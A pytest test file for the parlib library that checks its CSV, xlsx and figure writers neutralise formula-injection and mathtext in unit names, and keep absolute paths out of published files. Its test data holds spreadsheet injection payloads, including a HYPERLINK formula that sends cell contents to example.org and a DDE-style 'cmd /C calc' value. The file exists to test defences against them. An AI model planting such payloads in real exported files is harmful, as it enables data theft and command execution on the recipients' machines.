"""Safe outputs (issue #11): hostile names never become spreadsheet formulas in the xlsx and CSV files
the workbook writes, never parse as mathtext in its figures, and published files never carry the
machine's own folders. The real writers run on hostile frames; the files are reopened and read."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import shutil
import zipfile
from pathlib import Path

import matplotlib.pyplot as plt
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from matplotlib.text import Text

from parlib import ingest
from parlib.config.dataset import load_dataset
from parlib.core import cells, paths, xlsx
from parlib.core.storage import write_csv
from parlib.publish import export, history_plots, markup, plots, template
from parlib.run.cli import main as cli_main
from parlib.score.tables import load_table

from .conftest import ROOT, write_tiny
from .test_xlsx import shared_strings

HOSTILE = [
    '=HYPERLINK("http://example.org/?d="&A1,"Long An")',
    "+84 Sở Nội vụ",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=already quoted",
    "''",
    "a;=1+1",
    "x\r=1+1",
    "#REF!",
    "Sở A",
]
NUMBERS = [-1.5, 2.25, -0.0, 100.0, -3.125, 0.5, 7.0, -9.75, 1e-3, 42.0, -100.0, 3.0, 8.5]
DOLLARS = [r"Long An $\frac{$", "a $x$ b", "$", "$x$", r"Sở $\foo$ mới"]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "unit_id": [f"u{i}" for i in range(len(HOSTILE))],
            "unit_name": HOSTILE,
            "index_pct": NUMBERS,
            "rank": pd.array(range(1, len(HOSTILE) + 1), dtype="Int64"),
        }
    )


# --- the rule ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", "-", "+"])
def test_formula_like_text(text):
    assert cells.is_formula_like(text)
    assert cells.csv_text(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-1,5", "-1.5", "+3", "-0.5e3", "Sở A", "", "'=x", -1.5, None, 3]
)
def test_numbers_and_plain_text_are_not_formulas(value):
    assert not cells.is_formula_like(value)


def test_a_negative_number_is_written_as_a_number():
    text = cells.csv_document(pd.DataFrame({"name": ["=x"], "v": [-1.5]}))
    assert text.splitlines()[1].endswith(",-1.5")  # not "-1.5" in quotes, not '-1.5


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a;=1+1", "a;'=1+1"),
        (";=1", ";'=1"),
        ("x\r=1+1", "x\r'=1+1"),
        ("\n=1", "'\n'=1"),
        ("'q", "''q"),
        ("a; b", "a; b"),
        ("a;-1,5", "a;-1,5"),
    ],
)
def test_every_segment_is_escaped(text, written):
    assert cells.csv_text(text) == written and cells.restore_text(written) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n;,.1aS ")) | st.text())
def test_the_csv_escape_is_reversible_and_safe(text):
    escaped = cells.csv_text(text)
    assert cells.restore_text(escaped) == text
    segments = re.split(r"[\r\n;]", escaped)
    assert not cells.is_formula_like(escaped) and not any(map(cells.is_formula_like, segments))


# --- CSV ----------------------------------------------------------------------------------------------
def fields(text: str, delimiter: str) -> list[str]:
    """Every field as a spreadsheet splits the file: a bare CR starts a new row."""
    return [
        f for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for f in row
    ]


def test_write_csv_is_safe_under_both_separators_and_reads_back_exactly(tmp_path):
    frame = hostile_frame()
    path = write_csv(frame, tmp_path / "unit_index.csv")
    text = path.read_text(encoding="utf-8")
    for delimiter in (",", ";"):  # ";": Excel set to Vietnamese (decimal comma)
        risky = [f for f in fields(text, delimiter) if cells.is_formula_like(f)]
        assert risky == [], (delimiter, risky)
    back = load_table(tmp_path, "unit_index")
    assert back["unit_name"].tolist() == HOSTILE
    assert back["index_pct"].tolist() == NUMBERS and back["index_pct"].dtype == "float64"
    assert back["rank"].tolist() == list(range(1, len(HOSTILE) + 1))


def test_a_table_read_again_is_the_file_as_it_is_now_and_each_reader_has_its_own_copy(tmp_path):
    """``load_table`` keeps the tables it read (a warm kernel reads a year's tables in every
    notebook); a rewritten file is read again and a caller's change reaches no other caller."""
    write_csv(pd.DataFrame({"unit_id": ["a", "b"], "index_pct": [1.0, 2.0]}), tmp_path / "t.csv")
    first = load_table(tmp_path, "t")
    first.loc[0, "index_pct"] = 99.0
    assert load_table(tmp_path, "t")["index_pct"].tolist() == [1.0, 2.0]
    write_csv(pd.DataFrame({"unit_id": ["a", "b"], "index_pct": [3.0, 4.0]}), tmp_path / "t.csv")
    assert load_table(tmp_path, "t")["index_pct"].tolist() == [3.0, 4.0]
    (tmp_path / "t.csv").unlink()
    with pytest.raises(FileNotFoundError):
        load_table(tmp_path, "t")


def test_a_table_without_hostile_text_is_written_as_pandas_writes_it():
    frame = pd.DataFrame({"unit_id": ["a", "b"], "unit_name": ["Sở A", "Xã B"], "v": [-1.5, 2.0]})
    assert cells.csv_document(frame) == frame.to_csv(index=False, lineterminator="\n")


# --- XLSX ---------------------------------------------------------------------------------------------
def assert_no_formulas(book) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)


def xlsx_text(text: str) -> str:
    """The text as openpyxl reads it back: it decodes no ``_xHHHH_`` escape, so the CR that
    XlsxWriter writes as ``_x000D_`` (Excel reads it as CR) is left so
    (``test_results_workbook_keeps_every_hostile_name_exactly`` reads the stored text)."""
    return text.replace("\r", "_x000D_")


def write_results(tmp_path: Path, monkeypatch) -> Path:
    monkeypatch.setenv("PARLIB_ROOT", str(tmp_path))
    processed = tmp_path / "data" / "processed" / "d" / "2024"
    write_csv(hostile_frame(), processed / "unit_index.csv")
    prov = {
        "dataset": "d",
        "year": 2024,
        "methodology": "=1+1",
        "generated_at": "2026-01-01T00:00:00Z",
        "versions": {"parlib": "0"},
        "parameters": {"history_root": str(paths.processed_dir()), "lang": "vi"},
        "inputs": [{"path": "/srv/elsewhere/scores/2024.csv", "sha256": "0" * 64}],
    }
    return export.write_workbook(processed, tmp_path / "results.xlsx", "vi", prov)


def test_results_workbook_keeps_every_hostile_name_exactly(tmp_path, monkeypatch):
    stored = shared_strings(write_results(tmp_path, monkeypatch).read_bytes())
    assert set(HOSTILE) <= set(stored)  # as Excel reads them: a CR is a CR


def test_results_workbook_stores_hostile_names_as_text(tmp_path, monkeypatch):
    book = openpyxl.load_workbook(write_results(tmp_path, monkeypatch))
    assert_no_formulas(book)
    sheet = book["Chỉ số đơn vị"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    name, index = header.index("Đơn vị"), header.index("Chỉ số (%)")  # the rank leads the sheet
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[name].value for r in rows] == [xlsx_text(h) for h in HOSTILE]
    assert all(r[name].data_type == "s" for r in rows)
    prefixed = [h for r, h in zip(rows, HOSTILE) if r[name].quotePrefix]
    assert prefixed == [h for h in HOSTILE if cells.is_formula_like(h) or h == "#REF!"]
    assert [r[index].value for r in rows] == NUMBERS
    assert all(r[index].data_type == "n" for r in rows)
    provenance = " ".join(str(c.value) for row in book["Nguồn gốc"].iter_rows() for c in row)
    assert "history_root=data/processed" in provenance
    assert str(tmp_path) not in provenance and "/srv/elsewhere" not in provenance


def test_without_the_escape_the_writer_would_write_a_formula(tmp_path, monkeypatch):
    """The hazard the escape removes (and proof that ``assert_no_formulas`` sees it): XlsxWriter's
    generic ``write`` stores ``=…`` as a formula."""
    monkeypatch.setattr(
        xlsx.Book, "text", lambda self, sheet, row, col, text, *_: sheet.write(row, col, text)
    )
    book = openpyxl.load_workbook(write_results(tmp_path, monkeypatch))
    with pytest.raises(AssertionError):
        assert_no_formulas(book)


def test_scoring_template_stores_hostile_unit_and_criterion_names_as_text(tmp_path):
    raw = write_tiny(tmp_path / "raw")
    units = raw / "tiny" / "units.csv"
    with units.open("w", encoding="utf-8", newline="") as handle:
        out = csv.writer(handle, lineterminator="\n")
        out.writerow(["unit_id", "unit_name", "kind", "group"])
        out.writerow(["a", '=HYPERLINK("http://example.org","Sở A")', "department", ""])
        out.writerow(["b", "@SUM(1+1)*cmd|' /C calc'!A0", "department", ""])
        out.writerow(["c", "-2+3 Xã C", "commune", ""])
    framework = raw / "tiny" / "frameworks" / "tiny.csv"
    framework.write_text(
        framework.read_text(encoding="utf-8").replace("Tiêu chí 1.1", "=1+1 Tiêu chí"),
        encoding="utf-8",
    )
    cfg = load_dataset("tiny", raw)
    path = template.write(cfg, 2024, tmp_path / "mau.xlsx")
    book = openpyxl.load_workbook(path)
    assert_no_formulas(book)
    sheet = book["Điểm"]
    names = dict(
        zip(ingest.read_units(cfg.units)["unit_id"], ingest.read_units(cfg.units)["unit_name"])
    )
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert {(r[0], r[1]) for r in rows} == set(names.items())
    assert {r[3] for r in rows if r[2] == "1.1"} == {"=1+1 Tiêu chí"}
    assert sheet.data_validations.dataValidation  # the input rules are still there
    assert len(ingest.read_scores(path)) == len(rows)  # and ingest still reads the file back


# --- figures ------------------------------------------------------------------------------------------
def drawn(fig) -> list[Text]:
    fig.savefig(io.BytesIO(), format="png")  # mathtext would raise here on r"$\frac{$"
    texts = fig.findobj(Text)
    plt.close(fig)
    return texts


def test_unit_names_with_dollars_are_drawn_as_written():
    plots.reset_style()
    ids = [f"u{i}" for i in range(len(DOLLARS))]
    areas = pd.DataFrame(
        [(u, a, 50.0 + i) for i, u in enumerate(ids) for a in ("1", "2")],
        columns=["unit_id", "area", "index_pct"],
    )
    figures = [plots.area_heatmap(areas, pd.Series(DOLLARS, index=ids), "vi", DOLLARS[0])]
    profile = pd.DataFrame(
        {
            "area": ["1", "2"],
            "name": DOLLARS[:2],
            "index_pct": [60.0, 70.0],
            "average": [55.0, 65.0],
            "best": [90.0, 80.0],
        }
    )
    figures.append(history_plots.unit_areas(profile, DOLLARS[0], "vi", DOLLARS[1]))
    fig, ax = plt.subplots()
    ax.scatter([1, 2, 3, 4, 5], range(5), label=DOLLARS[2])
    figures.append(plots.finish_ranks(fig, ax, range(5), DOLLARS, "vi", DOLLARS[3]))
    for figure in figures:
        texts = drawn(figure)
        assert not any(text.get_parse_math() for text in texts)
    shown = {text.get_text() for figure in figures for text in figure.findobj(Text)}
    assert set(DOLLARS) <= shown


# --- no absolute paths ---------------------------------------------------------------------------------
def test_footer_shows_paths_relative_to_the_project(tmp_path, monkeypatch):
    monkeypatch.setenv("PARLIB_ROOT", str(tmp_path))
    prov = {
        "dataset": "d",
        "year": 2024,
        "methodology": "m",
        "generated_at": "now",
        "versions": {"parlib": "0"},
        "parameters": {"history_root": str(tmp_path / "data" / "processed"), "top_n": 15},
        "inputs": [{"path": "/srv/other/units.csv", "sha256": "0" * 64}],
    }
    footer = markup.provenance_footer(prov, "en")
    assert "history_root=data/processed" in footer and "top_n=15" in footer
    assert (
        str(tmp_path) not in footer
        and "/srv/other" not in footer
        and "&lt;outside the project&gt;/other/units.csv" in footer
    )
    prov["parameters"]["history_root"] = (
        "../data/processed"  # as the runner passes it: from notebooks/
    )
    assert "history_root=data/processed" in markup.provenance_footer(prov, "en")


def published_files(project: Path):
    """Every published file of a run, and inside each xlsx and docx its parts; executed notebooks
    (their papermill metadata and injected parameters belong to the runner) are left out."""
    for folder in (project / "reports", project / "data" / "processed"):
        for path in sorted(folder.rglob("*")):
            if not path.is_file() or path.suffix == ".ipynb":
                continue
            if path.suffix in (".xlsx", ".docx"):  # zip archives: their parts
                with zipfile.ZipFile(path) as archive:
                    for member in archive.namelist():
                        yield f"{path}!{member}", archive.read(member)
            else:
                yield str(path), path.read_bytes()


@pytest.mark.slow
def test_a_run_publishes_no_absolute_path(first_run):
    assert first_run.code == 0 and first_run.code_en == 0
    needles = [str(first_run.project).encode()]
    home = os.path.expanduser("~")
    if home not in ("", "/"):
        needles.append((home.rstrip("/") + "/").encode())
    found = [
        name for name, data in published_files(first_run.project) if any(n in data for n in needles)
    ]
    assert found == []


@pytest.mark.slow
def test_a_run_with_hostile_names_publishes_them_as_text(tmp_path, monkeypatch):
    """The tiny dataset with formula and mathtext names runs through every notebook (the fairness
    figures draw the names) and its workbook and CSVs keep them as text."""
    project = tmp_path / "project"
    for name in ("notebooks", "expectations"):
        shutil.copytree(ROOT / name, project / name)
    shutil.copy(ROOT / "pyproject.toml", project / "pyproject.toml")
    raw = write_tiny(project / "data" / "raw")
    names = {
        "a": '=HYPERLINK("http://example.org","Sở A")',
        "b": r"Sở $\frac{$ B",
        "c": "@SUM(1+1)",
    }
    with (raw / "tiny" / "units.csv").open("w", encoding="utf-8", newline="") as handle:
        out = csv.writer(handle, lineterminator="\n")
        out.writerow(["unit_id", "unit_name", "kind", "group"])
        for unit, kind in (("a", "department"), ("b", "department"), ("c", "commune")):
            out.writerow([unit, names[unit], kind, ""])
    monkeypatch.setenv("PARLIB_ROOT", str(project))
    with contextlib.redirect_stdout(io.StringIO()):
        assert cli_main(["run", "--dataset", "tiny"]) == 0
    book = openpyxl.load_workbook(project / "reports" / "tiny" / "2024" / "results.xlsx")
    assert_no_formulas(book)
    sheet = book["Chỉ số đơn vị"]
    mapping = {
        r[1]: r[2] for r in book["Các cột"].iter_rows(values_only=True) if r[0] == sheet.title
    }
    column = [c.value for c in sheet[1]].index(mapping["unit_name"])
    assert {row[column] for row in sheet.iter_rows(min_row=2, values_only=True)} == set(
        names.values()
    )
    processed = project / "data" / "processed" / "tiny" / "2024"
    text = (processed / "unit_index.csv").read_text(encoding="utf-8")
    assert not [f for f in fields(text, ",") if cells.is_formula_like(f)]
    assert set(load_table(processed, "unit_index")["unit_name"]) == set(names.values())
